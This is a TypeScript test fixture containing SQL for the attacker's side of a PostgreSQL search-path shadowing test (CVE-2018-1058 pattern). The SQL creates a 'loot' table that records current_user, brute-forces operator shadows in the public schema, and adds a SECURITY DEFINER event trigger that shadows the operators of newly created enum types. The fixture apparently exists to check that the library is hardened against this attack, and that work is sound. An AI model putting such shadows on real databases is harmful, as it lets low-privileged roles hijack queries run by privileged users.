/**
 * The attacker of the search-path shadowing test (CVE-2018-1058 pattern), first part: SQL that a role with CREATE on
 * `public` runs to create the loot table every shadow writes `current_user` and its own signature into whenever it
 * runs, and to put same-named operators in `public`, each of which then does what the pg_catalog original does.
 *
 * Operators are shadowed by brute force: every operator name below, for every pair of argument types below for
 * which pg_catalog has no operator with exactly those argument types (an exact match in `public` would then beat
 * pg_catalog's polymorphic or implicit-cast candidate) but resolves one. The functions and aggregates:
 * search-path-shadow-functions.ts.
 */

/**
 * Loot table, writable by everyone, and the helper every shadow calls: it records who ran which shadow, and inside
 * a read-only transaction (where it cannot write) fails the statement with a message naming the shadow instead.
 */
export const LOOT_SQL = `
  CREATE TABLE public.pgqrs_loot (who text NOT NULL, what text NOT NULL);
  GRANT INSERT ON public.pgqrs_loot TO PUBLIC;
  CREATE FUNCTION public.pgqrs_loot_note(what text) RETURNS void LANGUAGE plpgsql AS $f$
  BEGIN
    INSERT INTO public.pgqrs_loot (who, what) VALUES (current_user, what);
  EXCEPTION WHEN read_only_sql_transaction THEN
    RAISE EXCEPTION 'search-path shadow % ran as % (in a read-only transaction)', what, current_user;
  END $f$;`;

const OPERATORS = [
  "=",
  "<>",
  "<",
  "<=",
  ">",
  ">=",
  "~~",
  "!~~",
  "~~*",
  "!~~*",
  "~",
  "!~",
  "||",
  "+",
  "-",
  "*",
  "/",
  "%",
  "->",
  "->>",
  "#>",
  "#>>",
  "@>",
  "<@",
  "?",
  "?|",
  "?&",
  "&&",
  "#-",
];

/** Types the SQL compares, computes with or passes (columns, casts, parameters, information_schema domains). */
export const BUILTIN_TYPES = [
  "varchar",
  "text",
  "name",
  '"char"',
  "bigint",
  "integer",
  "smallint",
  "numeric",
  "double precision",
  "real",
  "boolean",
  "timestamptz",
  "timestamp",
  "date",
  "interval",
  "jsonb",
  "json",
  "bytea",
  "xid",
  "xid8",
  "oid",
  "regclass",
  "bigint[]",
  "integer[]",
  "text[]",
  "varchar[]",
  "jsonb[]",
  "name[]",
  "information_schema.sql_identifier",
  "information_schema.character_data",
  "information_schema.cardinal_number",
  "information_schema.yes_or_no",
  "information_schema.time_stamp",
];

/**
 * `public.pgqrs_shadow_operators(types)`: creates the operator shadows for every pair of `types` (see the module
 * comment). Written with qualified names only, so it never runs a shadow itself.
 */
export const SHADOW_OPERATORS_FUNCTION = `
  CREATE FUNCTION public.pgqrs_shadow_operators(types text[]) RETURNS integer LANGUAGE plpgsql AS $do$
  DECLARE
    ops text[] := ARRAY[${OPERATORS.map((o) => `'${o}'`).join(", ")}];
    l text; r text; op text; rt text; fname text; made integer := 0;
  BEGIN
    FOREACH op IN ARRAY ops LOOP
      FOREACH l IN ARRAY types LOOP
        FOREACH r IN ARRAY types LOOP
          CONTINUE WHEN EXISTS (
            SELECT 1 FROM pg_catalog.pg_operator o
             WHERE o.oprname OPERATOR(pg_catalog.=) op::name
               AND o.oprleft OPERATOR(pg_catalog.=) pg_catalog.to_regtype(l)::oid
               AND o.oprright OPERATOR(pg_catalog.=) pg_catalog.to_regtype(r)::oid
               AND o.oprnamespace OPERATOR(pg_catalog.=) 'pg_catalog'::regnamespace::oid);
          BEGIN
            EXECUTE pg_catalog.format('SELECT pg_catalog.pg_typeof(NULL::%s OPERATOR(pg_catalog.%s) NULL::%s)::text',
                                      l, op, r) INTO rt;
          EXCEPTION WHEN OTHERS THEN
            CONTINUE;
          END;
          fname := pg_catalog.format('pgqrs_shadow_op_%s', pg_catalog.md5(pg_catalog.format('%s %s %s', op, l, r)));
          EXECUTE pg_catalog.format(
            'CREATE FUNCTION public.%I(a %s, b %s) RETURNS %s LANGUAGE plpgsql AS $f$ BEGIN '
            'PERFORM public.pgqrs_loot_note(%L); '
            'RETURN a OPERATOR(pg_catalog.%s) b; END $f$',
            fname, l, r, rt, pg_catalog.format('operator %s(%s, %s)', op, l, r), op);
          EXECUTE pg_catalog.format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.%I)',
                                    op, l, r, fname);
          made := made OPERATOR(pg_catalog.+) 1;
        END LOOP;
      END LOOP;
    END LOOP;
    RETURN made;
  END $do$;`;

/**
 * An event trigger (created by the superuser, standing in for an attacker who has USAGE on the pgqrs schema) that
 * shadows the operators of every enum type the moment it is created, so the enum comparisons of a freshly
 * installed schema (`status = 'stopped'`, `status IN (…)`) meet an exact-match shadow too.
 */
export const ENUM_SHADOW_TRIGGER_SQL = `
  CREATE FUNCTION public.pgqrs_shadow_new_enums() RETURNS event_trigger LANGUAGE plpgsql SECURITY DEFINER AS $f$
  DECLARE t record;
  BEGIN
    FOR t IN SELECT c.objid FROM pg_catalog.pg_event_trigger_ddl_commands() c
              JOIN pg_catalog.pg_type ty ON ty.oid OPERATOR(pg_catalog.=) c.objid
             WHERE c.classid OPERATOR(pg_catalog.=) 'pg_catalog.pg_type'::regclass::oid
               AND ty.typtype OPERATOR(pg_catalog.=) 'e'::"char" LOOP
      PERFORM public.pgqrs_shadow_operators(ARRAY[t.objid::regtype::text, pg_catalog.format('%s[]', t.objid::regtype)]);
    END LOOP;
  END $f$;
  CREATE EVENT TRIGGER pgqrs_shadow_new_enums ON ddl_command_end WHEN TAG IN ('CREATE TYPE')
    EXECUTE FUNCTION public.pgqrs_shadow_new_enums();`;
